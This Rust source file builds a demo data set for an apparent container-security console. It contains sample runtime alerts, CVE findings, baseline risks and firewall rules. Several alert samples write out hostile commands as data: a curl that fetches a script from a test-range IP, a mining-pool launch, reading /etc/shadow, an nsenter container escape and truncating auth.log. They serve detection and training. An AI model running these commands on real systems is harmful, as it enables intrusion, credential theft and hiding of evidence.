//! The demo data set: realistic findings of every kind and firewall rules, so that a new user
//! sees every console view filled (`palisade up --demo`).
//!
//! Everything is marked as demo in the data (`demo: true` on every report and rule) and sits
//! in its own cluster, `demo`; the console shows a banner and a badge on each demo row. Report
//! ids are derived from fixed names, so loading the set again stores nothing twice.

use palisade_model::{
    AffectedAsset, AlertCategory, AlertDetails, Ancestor, AuditEntry, BaselineCategory,
    BaselineDetails, Details, Evidence, FindingReport, FirewallAction, FirewallDetails,
    FirewallRule, NewFirewallRule, PortRange, ProcessInfo, Role, Severity, Timestamp,
    VulnerabilityDetails,
};
use palisade_store::{HandlingPolicy, Store, StoreError};
use uuid::Uuid;

/// The cluster the demo data belongs to.
pub const DEMO_CLUSTER: &str = "demo";

const DEMO_NAMESPACE: Uuid = Uuid::from_u128(0x5d2c_7e1a_4b3f_4c8d_9a6e_1f0b_3c5d_7e9f);

/// What [`load_demo`] stored.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct DemoSummary {
    /// Findings created (0 when the set was loaded before).
    pub created: u64,
    /// Reports already stored by an earlier load.
    pub already_loaded: u64,
    /// Firewall rules stored or refreshed.
    pub firewall_rules: u64,
}

fn id(name: &str) -> Uuid {
    Uuid::new_v5(&DEMO_NAMESPACE, name.as_bytes())
}

fn pod(namespace: &str, pod: &str, container: &str, image: &str, node: &str) -> AffectedAsset {
    AffectedAsset {
        cluster: DEMO_CLUSTER.into(),
        node: Some(node.into()),
        namespace: Some(namespace.into()),
        workload: Some(format!(
            "Deployment/{}",
            pod.rsplitn(3, '-').last().unwrap_or(pod)
        )),
        pod: Some(pod.into()),
        container_id: Some(format!("{:x}", id(pod).as_u128()).repeat(2)),
        container_name: Some(container.into()),
        image: Some(image.into()),
        image_digest: None,
    }
}

struct AlertSpec<'a> {
    name: &'a str,
    rule: &'a str,
    severity: Severity,
    category: AlertCategory,
    mitre: &'a str,
    description: &'a str,
    response: &'a str,
    asset: AffectedAsset,
    exe: &'a str,
    cmdline: &'a str,
    user: &'a str,
    parents: &'a [(&'a str, &'a str)],
    minutes_ago: i64,
}

fn alert(spec: AlertSpec<'_>, now: Timestamp) -> FindingReport {
    let observed_at = Timestamp(now.millis() - spec.minutes_ago * 60_000);
    let container_id = spec.asset.container_id.clone();
    let ancestry: Vec<Ancestor> = spec
        .parents
        .iter()
        .enumerate()
        .map(|(depth, (exe, args))| Ancestor {
            pid: 4000 - depth as u32 * 37,
            exe: (*exe).into(),
            args: args.split(' ').map(str::to_owned).collect(),
            user: if depth + 1 == spec.parents.len() {
                "root".into()
            } else {
                spec.user.into()
            },
            start_time: Timestamp(observed_at.millis() - (depth as i64 + 1) * 95_000),
            container_id: if *exe == "/usr/bin/containerd-shim-runc-v2" {
                None
            } else {
                container_id.clone()
            },
        })
        .collect();
    let pid = 4120;
    FindingReport {
        id: id(spec.name),
        observed_at,
        severity: spec.severity,
        rule: spec.rule.into(),
        title: format!(
            "{} ({})",
            spec.rule,
            spec.asset.pod.as_deref().unwrap_or("host")
        ),
        details: Details::Alert(AlertDetails {
            category: Some(spec.category),
            mitre: Some(spec.mitre.into()),
            description: spec.description.into(),
            output: format!(
                "{} (user={} command={} container={})",
                spec.rule,
                spec.user,
                spec.cmdline,
                spec.asset.container_name.as_deref().unwrap_or("host")
            ),
            process: ProcessInfo {
                pid,
                ppid: ancestry.first().map_or(1, |parent| parent.pid),
                exe: spec.exe.into(),
                cmdline: spec.cmdline.into(),
                user: spec.user.into(),
            },
            ancestry,
            suggested_response: spec.response.into(),
            raw_event: serde_json::json!({
                "evt.type": "execve",
                "evt.time": observed_at.to_rfc3339(),
                "proc.pid": pid,
                "proc.exe": spec.exe,
                "proc.cmdline": spec.cmdline,
                "user.name": spec.user,
                "container.id": container_id,
                "k8s.ns.name": spec.asset.namespace,
                "k8s.pod.name": spec.asset.pod,
                "demo": true,
            }),
        }),
        asset: spec.asset,
        demo: true,
    }
}

fn alerts(now: Timestamp) -> Vec<FindingReport> {
    let web = || {
        pod(
            "shop",
            "web-7d9f8-x2kqp",
            "nginx",
            "registry.example/shop/web:1.4.2",
            "node-a",
        )
    };
    let api = || {
        pod(
            "shop",
            "api-5c6b7-9zt4m",
            "api",
            "registry.example/shop/api:2.0.1",
            "node-b",
        )
    };
    let db = || {
        pod(
            "data",
            "postgres-0-0-0",
            "postgres",
            "docker.io/library/postgres:15.4",
            "node-b",
        )
    };
    let ci = || {
        pod(
            "ci",
            "runner-6f5d4-pq8rs",
            "runner",
            "ghcr.io/example/runner:3.1",
            "node-c",
        )
    };
    let shell_parents: &[(&str, &str)] = &[
        ("/usr/sbin/nginx", "nginx: worker process"),
        (
            "/usr/sbin/nginx",
            "nginx: master process /usr/sbin/nginx -g daemon off;",
        ),
        (
            "/usr/bin/containerd-shim-runc-v2",
            "containerd-shim-runc-v2 -namespace k8s.io",
        ),
    ];
    vec![
        alert(
            AlertSpec {
                name: "alert-shell-web",
                rule: "Terminal shell in container",
                severity: Severity::High,
                category: AlertCategory::Intrusion,
                mitre: "T1059.004",
                description: "A shell was spawned by a web server inside a container, a common sign of remote code execution.",
                response: "Check the web server's access log around the event time; if the request is not yours, isolate the pod and rotate its credentials.",
                asset: web(),
                exe: "/bin/sh",
                cmdline: "sh -c id; uname -a",
                user: "www-data",
                parents: shell_parents,
                minutes_ago: 12,
            },
            now,
        ),
        alert(
            AlertSpec {
                name: "alert-download-web",
                rule: "Download tool run in container",
                severity: Severity::Medium,
                category: AlertCategory::Intrusion,
                mitre: "T1105",
                description: "curl or wget ran in a container whose image does not normally download anything.",
                response: "Look at the URL fetched; block egress from this workload if it is unexpected.",
                asset: web(),
                exe: "/usr/bin/curl",
                cmdline: "curl -s http://203.0.113.7/x.sh -o /tmp/x.sh",
                user: "www-data",
                parents: &[
                    ("/bin/sh", "sh -c id; uname -a"),
                    ("/usr/sbin/nginx", "nginx: worker process"),
                ],
                minutes_ago: 11,
            },
            now,
        ),
        alert(
            AlertSpec {
                name: "alert-drop-exec-web",
                rule: "Drop and execute new binary in container",
                severity: Severity::Critical,
                category: AlertCategory::Intrusion,
                mitre: "T1204.002",
                description: "A file written after the container started was executed: it is not part of the image.",
                response: "Quarantine /tmp/x.sh, capture the pod for forensics, then redeploy it from the image.",
                asset: web(),
                exe: "/tmp/x.sh",
                cmdline: "/tmp/x.sh --pool stratum+tcp://198.51.100.9:3333",
                user: "www-data",
                parents: &[
                    ("/bin/sh", "sh /tmp/x.sh"),
                    ("/usr/sbin/nginx", "nginx: worker process"),
                ],
                minutes_ago: 10,
            },
            now,
        ),
        alert(
            AlertSpec {
                name: "alert-miner-web",
                rule: "Crypto miner connection",
                severity: Severity::Critical,
                category: AlertCategory::Malware,
                mitre: "T1496",
                description: "A process connected to a known mining pool port using the stratum protocol.",
                response: "Kill the process, block the pool address, and find how the binary got in.",
                asset: web(),
                exe: "/tmp/x.sh",
                cmdline: "/tmp/x.sh --pool stratum+tcp://198.51.100.9:3333",
                user: "www-data",
                parents: &[("/bin/sh", "sh /tmp/x.sh")],
                minutes_ago: 9,
            },
            now,
        ),
        alert(
            AlertSpec {
                name: "alert-shadow-api",
                rule: "Read sensitive file untrusted",
                severity: Severity::High,
                category: AlertCategory::Intrusion,
                mitre: "T1003.008",
                description: "A process that has no reason to read credentials opened /etc/shadow.",
                response: "Treat the pod's secrets as exposed; rotate them and inspect the process tree.",
                asset: api(),
                exe: "/bin/cat",
                cmdline: "cat /etc/shadow",
                user: "root",
                parents: &[
                    ("/bin/bash", "bash"),
                    (
                        "/usr/bin/containerd-shim-runc-v2",
                        "containerd-shim-runc-v2 -namespace k8s.io",
                    ),
                ],
                minutes_ago: 95,
            },
            now,
        ),
        alert(
            AlertSpec {
                name: "alert-nsenter-ci",
                rule: "Nsenter into host namespaces",
                severity: Severity::Critical,
                category: AlertCategory::Escape,
                mitre: "T1611",
                description: "nsenter targeted PID 1's namespaces from inside a container: a container escape attempt.",
                response: "Cordon the node, stop the pod, and review why it runs privileged.",
                asset: ci(),
                exe: "/usr/bin/nsenter",
                cmdline: "nsenter -t 1 -m -u -i -n -p sh",
                user: "root",
                parents: &[
                    ("/bin/sh", "sh -c nsenter -t 1 -m -u -i -n -p sh"),
                    ("/usr/local/bin/runner", "runner run --job 4711"),
                ],
                minutes_ago: 300,
            },
            now,
        ),
        alert(
            AlertSpec {
                name: "alert-runtime-socket-ci",
                rule: "Container runtime socket accessed",
                severity: Severity::High,
                category: AlertCategory::Escape,
                mitre: "T1610",
                description: "A container opened the container runtime's socket, which controls every container on the node.",
                response: "Remove the hostPath mount of the runtime socket from the workload.",
                asset: ci(),
                exe: "/usr/bin/ctr",
                cmdline: "ctr -a /run/containerd/containerd.sock containers list",
                user: "root",
                parents: &[("/usr/local/bin/runner", "runner run --job 4712")],
                minutes_ago: 290,
            },
            now,
        ),
        alert(
            AlertSpec {
                name: "alert-pkg-db",
                rule: "Launch package management process in container",
                severity: Severity::Low,
                category: AlertCategory::HighRiskOperation,
                mitre: "T1072",
                description: "A package manager ran inside a running container; containers should be rebuilt, not patched in place.",
                response: "Rebuild the image with the package instead.",
                asset: db(),
                exe: "/usr/bin/apt-get",
                cmdline: "apt-get install -y netcat-openbsd",
                user: "root",
                parents: &[("/bin/bash", "bash")],
                minutes_ago: 1440,
            },
            now,
        ),
        alert(
            AlertSpec {
                name: "alert-clear-log-node",
                rule: "Clear log activities",
                severity: Severity::Medium,
                category: AlertCategory::HighRiskOperation,
                mitre: "T1070.002",
                description: "A log file was truncated.",
                response: "Confirm the change with the node's owner; forward logs off the node.",
                asset: AffectedAsset {
                    cluster: DEMO_CLUSTER.into(),
                    node: Some("node-a".into()),
                    ..Default::default()
                },
                exe: "/usr/bin/truncate",
                cmdline: "truncate -s 0 /var/log/auth.log",
                user: "root",
                parents: &[
                    ("/bin/bash", "-bash"),
                    ("/usr/sbin/sshd", "sshd: admin@pts/0"),
                ],
                minutes_ago: 2000,
            },
            now,
        ),
    ]
}

#[allow(clippy::too_many_arguments)]
fn vulnerability(
    cve: &str,
    aliases: &[&str],
    severity: Severity,
    cvss: (f64, &str),
    package: &str,
    ecosystem: &str,
    installed: &str,
    fixed: &[&str],
    description: &str,
    asset: AffectedAsset,
    now: Timestamp,
) -> FindingReport {
    let label = asset.label();
    let fix = match fixed.first() {
        Some(version) if ecosystem.starts_with("Debian") => {
            format!("apt-get install --only-upgrade {package}={version}")
        }
        Some(version) if ecosystem == "PyPI" => format!("pip install '{package}=={version}'"),
        Some(version) if ecosystem == "npm" => format!("npm install {package}@{version}"),
        Some(version) => format!("upgrade {package} to {version}"),
        None => String::new(),
    };
    FindingReport {
        id: id(&format!("vuln-{cve}-{label}")),
        observed_at: Timestamp(now.millis() - 3_600_000),
        severity,
        rule: cve.into(),
        title: format!("{cve} in {package} {installed}"),
        details: Details::Vulnerability(VulnerabilityDetails {
            aliases: aliases.iter().map(|alias| (*alias).to_owned()).collect(),
            package: package.into(),
            ecosystem: ecosystem.into(),
            installed_version: installed.into(),
            fixed_versions: fixed.iter().map(|version| (*version).to_owned()).collect(),
            cvss_score: Some(cvss.0),
            cvss_vector: Some(cvss.1.into()),
            purl: format!(
                "pkg:{}/{package}@{installed}",
                ecosystem
                    .split(':')
                    .next()
                    .unwrap_or("generic")
                    .to_lowercase()
            ),
            location: if ecosystem.starts_with("Debian") {
                "/var/lib/dpkg/status".into()
            } else {
                format!("/app/{package}")
            },
            fix,
            description: description.into(),
            ..Default::default()
        }),
        asset,
        demo: true,
    }
}

fn vulnerabilities(now: Timestamp) -> Vec<FindingReport> {
    let image = |image: &str| AffectedAsset {
        cluster: DEMO_CLUSTER.into(),
        image: Some(image.into()),
        ..Default::default()
    };
    let node = |node: &str| AffectedAsset {
        cluster: DEMO_CLUSTER.into(),
        node: Some(node.into()),
        ..Default::default()
    };
    let openssl = "A buffer overread in X.509 certificate verification can crash a TLS client or server given a crafted certificate.";
    let xz = "Malicious code in the upstream xz tarballs lets an attacker with a specific key bypass sshd authentication.";
    let mut reports = Vec::new();
    for asset in [
        image("registry.example/shop/web:1.4.2"),
        image("registry.example/shop/api:2.0.1"),
        node("node-a"),
    ] {
        reports.push(vulnerability(
            "CVE-2023-0286",
            &["DSA-5343-1"],
            Severity::High,
            (7.4, "CVSS:3.1/AV:N/AC:H/PR:N/UI:N/S:U/C:H/I:N/A:H"),
            "openssl",
            "Debian:11",
            "1.1.1n-0+deb11u3",
            &["1.1.1n-0+deb11u4"],
            openssl,
            asset,
            now,
        ));
    }
    reports.push(vulnerability(
        "CVE-2024-3094",
        &[],
        Severity::Critical,
        (10.0, "CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:C/C:H/I:H/A:H"),
        "xz-utils",
        "Debian:12",
        "5.6.0-0.2",
        &["5.6.1+really5.4.5-1"],
        xz,
        node("node-c"),
        now,
    ));
    reports.push(vulnerability(
        "GHSA-9wx4-h78v-vm56",
        &["CVE-2024-35195"],
        Severity::Medium,
        (5.6, "CVSS:3.1/AV:L/AC:H/PR:H/UI:R/S:U/C:H/I:H/A:N"),
        "requests",
        "PyPI",
        "2.31.0",
        &["2.32.0"],
        "Requests Session objects keep verify=False for later requests to the same host.",
        image("registry.example/shop/api:2.0.1"),
        now,
    ));
    reports.push(vulnerability(
        "CVE-2023-44487", &["GHSA-qppj-fm5r-hxr3"], Severity::High,
        (7.5, "CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:N/I:N/A:H"),
        "nghttp2", "Debian:12", "1.52.0-1", &[],
        "HTTP/2 rapid reset: a client can make a server spend resources by opening and cancelling streams quickly.",
        image("docker.io/library/postgres:15.4"), now,
    ));
    reports
}

fn baseline(now: Timestamp) -> Vec<FindingReport> {
    let workload = |namespace: &str, name: &str| AffectedAsset {
        cluster: DEMO_CLUSTER.into(),
        namespace: Some(namespace.into()),
        workload: Some(name.into()),
        ..Default::default()
    };
    let risk = |check: &str,
                severity: Severity,
                category: BaselineCategory,
                title: &str,
                description: &str,
                remediation: &str,
                asset: AffectedAsset,
                evidence: Vec<Evidence>| FindingReport {
        id: id(&format!("baseline-{check}-{}", asset.label())),
        observed_at: Timestamp(now.millis() - 7_200_000),
        severity,
        rule: check.into(),
        title: title.into(),
        details: Details::BaselineRisk(BaselineDetails {
            category,
            description: description.into(),
            remediation: remediation.into(),
            evidence,
        }),
        asset,
        demo: true,
    };
    let evidence = |path: &str, value: &str, file: &str, line: u32| Evidence {
        path: path.into(),
        value: value.into(),
        file: file.into(),
        line: Some(line),
    };
    vec![
        risk(
            "privileged",
            Severity::Critical,
            BaselineCategory::Workload,
            "Privileged container (Pod Security Standards: baseline)",
            "Privileged containers disable most isolation and can take over the node.",
            "Remove securityContext.privileged or set it to false.",
            workload("ci", "Deployment/runner"),
            vec![evidence(
                "spec.template.spec.containers[0].securityContext.privileged",
                "true",
                "ci/runner.yaml",
                31,
            )],
        ),
        risk(
            "hostPath volumes",
            Severity::High,
            BaselineCategory::Workload,
            "hostPath volume (Pod Security Standards: baseline)",
            "hostPath volumes expose the node's file system to the pod.",
            "Use a persistent volume or an emptyDir instead of the host path.",
            workload("ci", "Deployment/runner"),
            vec![evidence(
                "spec.template.spec.volumes[1].hostPath.path",
                "/run/containerd/containerd.sock",
                "ci/runner.yaml",
                44,
            )],
        ),
        risk(
            "PAL-K8S-001",
            Severity::Medium,
            BaselineCategory::Workload,
            "Container without resource limits",
            "Without limits one container can starve its neighbours on the node.",
            "Set resources.limits.cpu and resources.limits.memory.",
            workload("shop", "Deployment/web"),
            vec![evidence(
                "spec.template.spec.containers[0].resources.limits",
                "<absent>",
                "shop/web.yaml",
                22,
            )],
        ),
        risk(
            "PAL-K8S-001",
            Severity::Medium,
            BaselineCategory::Workload,
            "Container without resource limits",
            "Without limits one container can starve its neighbours on the node.",
            "Set resources.limits.cpu and resources.limits.memory.",
            workload("shop", "Deployment/api"),
            vec![evidence(
                "spec.template.spec.containers[0].resources.limits",
                "<absent>",
                "shop/api.yaml",
                25,
            )],
        ),
        risk(
            "PAL-HOST-SSH-003",
            Severity::High,
            BaselineCategory::Os,
            "SSH permits root login with a password",
            "Password logins for root invite brute force.",
            "Set PermitRootLogin prohibit-password (or no) in /etc/ssh/sshd_config and reload sshd.",
            AffectedAsset {
                cluster: DEMO_CLUSTER.into(),
                node: Some("node-a".into()),
                ..Default::default()
            },
            vec![evidence(
                "PermitRootLogin",
                "yes",
                "/etc/ssh/sshd_config",
                32,
            )],
        ),
        risk(
            "PAL-DB-REDIS-001",
            Severity::Critical,
            BaselineCategory::Database,
            "Redis accepts connections without authentication",
            "Anyone who reaches the port can read and write every key, and often run commands.",
            "Set requirepass (or ACL users) and bind to the pod network only.",
            workload("data", "StatefulSet/redis"),
            vec![evidence(
                "requirepass",
                "<unset>",
                "/etc/redis/redis.conf",
                1,
            )],
        ),
    ]
}

fn firewall_rules(now: Timestamp) -> Vec<FirewallRule> {
    let rule = |name: &str,
                source: &str,
                destination: &str,
                ports: Vec<PortRange>,
                action: FirewallAction,
                priority: u32| FirewallRule {
        id: id(&format!("firewall-rule-{name}")),
        rule: NewFirewallRule {
            name: name.into(),
            source: source.into(),
            destination: destination.into(),
            ports,
            protocol: Some("TCP".into()),
            action,
            priority,
            enabled: true,
        },
        updated_by: "demo".into(),
        updated_at: now,
        demo: true,
    };
    let port = |port: u16| PortRange {
        start: port,
        end: port,
    };
    vec![
        rule(
            "demo: only api may reach postgres",
            "shop/api",
            "data/postgres",
            vec![port(5432)],
            FirewallAction::Block,
            10,
        ),
        rule(
            "demo: no egress to mining pools",
            "any workload",
            "mining pools (198.51.100.0/24)",
            vec![
                PortRange {
                    start: 3333,
                    end: 3336,
                },
                port(14444),
            ],
            FirewallAction::Block,
            5,
        ),
        rule(
            "demo: watch web to redis",
            "shop/web",
            "data/redis",
            vec![port(6379)],
            FirewallAction::Alert,
            20,
        ),
    ]
}

fn firewall_alerts(rules: &[FirewallRule], now: Timestamp) -> Vec<FindingReport> {
    let alert = |name: &str,
                 rule: &FirewallRule,
                 source: &str,
                 destination: &str,
                 port: u16,
                 attempts_ago: &[i64]| {
        attempts_ago
            .iter()
            .enumerate()
            .map(|(index, minutes)| FindingReport {
                id: id(&format!("firewall-{name}-{index}")),
                observed_at: Timestamp(now.millis() - minutes * 60_000),
                severity: if rule.rule.action == FirewallAction::Block {
                    Severity::High
                } else {
                    Severity::Medium
                },
                rule: rule.rule.name.clone(),
                title: format!("{source} → {destination}:{port}"),
                asset: AffectedAsset {
                    cluster: DEMO_CLUSTER.into(),
                    namespace: source.split('/').next().map(str::to_owned),
                    workload: source
                        .split('/')
                        .nth(1)
                        .map(|name| format!("Deployment/{name}")),
                    ..Default::default()
                },
                details: Details::FirewallAlert(FirewallDetails {
                    source: source.into(),
                    destination: destination.into(),
                    destination_object: rule.rule.destination.clone(),
                    port,
                    protocol: "TCP".into(),
                    mode: rule.rule.action.as_str().into(),
                    rule_id: Some(rule.id.to_string()),
                    trace: vec![
                        format!(
                            "palisade rule {:?} (priority {}) matched",
                            rule.rule.name, rule.rule.priority
                        ),
                        format!("verdict: {}", rule.rule.action.as_str()),
                    ],
                    ..Default::default()
                }),
                demo: true,
            })
            .collect::<Vec<_>>()
    };
    // Attempts within one UTC day aggregate into one alert; keep them minutes apart.
    let minutes_today = (now.millis() - now.day() * 86_400_000) / 60_000;
    let recent = |offsets: &[i64]| -> Vec<i64> {
        offsets
            .iter()
            .map(|o| (*o).min(minutes_today.max(1) - 1).max(0))
            .collect()
    };
    let mut reports = Vec::new();
    reports.extend(alert(
        "web-postgres",
        &rules[0],
        "shop/web",
        "data/postgres-0",
        5432,
        &recent(&[40, 38, 35, 20, 5]),
    ));
    reports.extend(alert(
        "web-pool",
        &rules[1],
        "shop/web",
        "198.51.100.9",
        3333,
        &recent(&[10, 9, 8]),
    ));
    reports.extend(alert(
        "web-redis",
        &rules[2],
        "shop/web",
        "data/redis-0",
        6379,
        &recent(&[120]),
    ));
    reports
}

/// Loads the demo data set into `store` (idempotent).
pub async fn load_demo(store: &dyn Store) -> Result<DemoSummary, StoreError> {
    let now = Timestamp::now();
    let rules = firewall_rules(now);
    for rule in &rules {
        let audit = AuditEntry {
            id: Uuid::now_v7(),
            at: now,
            actor: "palisade".into(),
            role: Role::Admin,
            action: "firewall_rule.demo".into(),
            target_kind: "firewall_rule".into(),
            target_id: rule.id.to_string(),
            reason: "demo data set (palisade up --demo)".into(),
            details: serde_json::Value::Null,
        };
        if store.firewall_rule(rule.id).await?.is_none() {
            store.put_firewall_rule(rule, &audit).await?;
        }
    }
    let mut reports = alerts(now);
    reports.extend(vulnerabilities(now));
    reports.extend(baseline(now));
    reports.extend(firewall_alerts(&rules, now));
    let outcome = store.ingest(&reports, &HandlingPolicy::default()).await?;
    Ok(DemoSummary {
        created: outcome.created,
        already_loaded: outcome.duplicates,
        firewall_rules: rules.len() as u64,
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn every_kind_is_present_and_marked_demo() {
        let now = Timestamp::now();
        let rules = firewall_rules(now);
        let mut reports = alerts(now);
        reports.extend(vulnerabilities(now));
        reports.extend(baseline(now));
        reports.extend(firewall_alerts(&rules, now));
        for kind in palisade_model::FindingKind::ALL {
            assert!(
                reports.iter().any(|report| report.details.kind() == kind),
                "{kind:?}"
            );
        }
        assert!(
            reports
                .iter()
                .all(|report| report.demo && report.asset.cluster == DEMO_CLUSTER)
        );
        assert!(
            rules
                .iter()
                .all(|rule| rule.demo && rule.rule.validate().is_ok())
        );
        let ids: std::collections::HashSet<_> = reports.iter().map(|report| report.id).collect();
        assert_eq!(ids.len(), reports.len(), "report ids are unique");
    }
}
